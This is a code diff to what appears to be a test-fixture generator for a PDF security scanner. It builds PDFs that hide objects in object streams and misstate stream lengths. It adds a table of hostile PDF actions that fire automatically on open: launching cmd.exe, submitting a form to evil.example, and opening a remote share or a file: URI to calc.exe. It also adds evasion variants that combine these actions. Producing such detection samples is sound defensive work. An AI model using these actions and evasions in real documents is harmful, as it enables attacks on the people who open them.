@@ -18,6 +18,24 @@ interface HostileOptions {
   objStmName?: boolean;
   /** Whether a content stream holds a fake `endstream (` before the object stream. */
   fakeEndstream?: boolean;
+  /** How the content stream (4) states its length (ContentLength); declared correctly by default. */
+  contentLength?: ContentLength;
+  /** Whether the object stream is Flate-compressed (the default) or written plain. */
+  compressObjects?: boolean;
+}
+
+/**
+ * A content stream's /Length as hostile files state it: correct, absent, wrong (9 bytes past
+ * the data, so it does not land on `endstream`), or an indirect reference to an object the file
+ * does not hold. Without a usable one, a scanner can only guess where the data ends.
+ */
+export type ContentLength = "declared" | "missing" | "wrong" | "missing-object";
+
+function lengthEntry(contentLength: ContentLength, length: number): string {
+  if (contentLength === "missing") return "";
+  if (contentLength === "wrong") return `/Length ${length + 9}`;
+  if (contentLength === "missing-object") return "/Length 99 0 R";
+  return `/Length ${length}`;
 }
 
 /** Writes `n 0 obj … endobj` and remembers where it starts. */
@@ -40,8 +58,8 @@ class Writer {
   }
 }
 
-function streamObject(dictionary: string, data: Buffer): Buffer {
-  return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, Buffer.from("\nendstream")]);
+function streamObject(dictionary: string, data: Buffer, length = `/Length ${data.length}`): Buffer {
+  return Buffer.concat([Buffer.from(`<< ${dictionary} ${length} >>\nstream\n`), data, Buffer.from("\nendstream")]);
 }
 
 /**
@@ -50,7 +68,15 @@ function streamObject(dictionary: string, data: Buffer): Buffer {
  * An incremental update may follow (createIncrementalUpdate).
  */
 export function createHiddenObjectStreamPdf(options: HostileOptions = {}): Buffer {
-  const { catalogExtra = "", pageExtra = "", extraObjects = [], objStmName = false, fakeEndstream = true } = options;
+  const {
+    catalogExtra = "",
+    pageExtra = "",
+    extraObjects = [],
+    objStmName = false,
+    fakeEndstream = true,
+    contentLength = "declared",
+    compressObjects = true,
+  } = options;
   const compressed = [
     `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
     "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
@@ -64,7 +90,8 @@ export function createHiddenObjectStreamPdf(options: HostileOptions = {}): Buffe
     header += `${numbers[index]} ${body.length} `;
     body += `${object}\n`;
   });
-  const data = deflateSync(Buffer.from(header + body, "latin1"));
+  const plain = Buffer.from(header + body, "latin1");
+  const data = compressObjects ? deflateSync(plain) : plain;
 
   const writer = new Writer();
   writer.write("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n");
@@ -74,10 +101,13 @@ export function createHiddenObjectStreamPdf(options: HostileOptions = {}): Buffe
     `BT /F1 12 Tf 72 770 Td (Statement) Tj ET\n${fakeEndstream ? `%endstream ${"(".repeat(4_000)}\n` : ""}`,
     "latin1",
   );
-  writer.object(4, streamObject("", content));
+  writer.object(4, streamObject("", content, lengthEntry(contentLength, content.length)));
   writer.object(
     5,
-    streamObject(`${objStmName ? "/Type /ObjStm " : ""}/N ${compressed.length} /First ${header.length} /Filter /FlateDecode`, data),
+    streamObject(
+      `${objStmName ? "/Type /ObjStm " : ""}/N ${compressed.length} /First ${header.length}${compressObjects ? " /Filter /FlateDecode" : ""}`,
+      data,
+    ),
   );
   const size = Math.max(8, 8 + extraObjects.length);
   // Cross-reference stream: type 1 (offset) for 4, 5, 6; type 2 (in object stream 5) for the rest.
@@ -132,4 +162,43 @@ export function createIncrementalUpdate(base: Buffer, catalogExtra: string): Buf
   );
   writer.write(`startxref\n${xrefOffset}\n%%EOF\n`);
   return Buffer.concat(writer.parts);
+}
+
+/**
+ * Actions a reader runs without the page's say: starting a program, sending the form or
+ * importing data, opening an attached or a remote file, a file: address, playing media.
+ */
+export const HOSTILE_ACTIONS: Record<string, string> = {
+  Launch: "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
+  SubmitForm: "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>",
+  ImportData: "<< /S /ImportData /F (data.fdf) >>",
+  GoToE: "<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>",
+  GoToR: "<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>",
+  "URI to a file": "<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
+  Rendition: "<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (movie.swf) >> >> >> >>",
+};
+
+/** Where a hostile action sits: the catalog's /OpenAction, the catalog's /AA, a page's /AA. */
+export const ACTION_PLACES: Record<string, (action: string) => Pick<HostileOptions, "catalogExtra" | "pageExtra">> = {
+  OpenAction: (action) => ({ catalogExtra: `/OpenAction ${action}` }),
+  "the catalog's /AA": (action) => ({ catalogExtra: `/AA << /WC ${action} >>` }),
+  "a page's /AA": (action) => ({ pageExtra: `/AA << /O ${action} >>` }),
+};
+
+/**
+ * Every hostile action in every place, behind a content stream whose end cannot be found from its
+ * /Length (missing, wrong, or an indirect reference to a missing object), in a Flate-compressed or
+ * a plain object stream: the files of issue 21 finding 4's last variant, by name.
+ */
+export function createHiddenActionPdfs(): Array<[string, Buffer]> {
+  const files: Array<[string, Buffer]> = [];
+  for (const [actionName, action] of Object.entries(HOSTILE_ACTIONS))
+    for (const [placeName, place] of Object.entries(ACTION_PLACES))
+      for (const contentLength of ["missing", "wrong", "missing-object"] as const)
+        for (const compressObjects of [true, false])
+          files.push([
+            `${actionName} in ${placeName}, /Length ${contentLength}, ${compressObjects ? "compressed" : "plain"} object stream`,
+            createHiddenObjectStreamPdf({ ...place(action), contentLength, compressObjects }),
+          ]);
+  return files;
 }
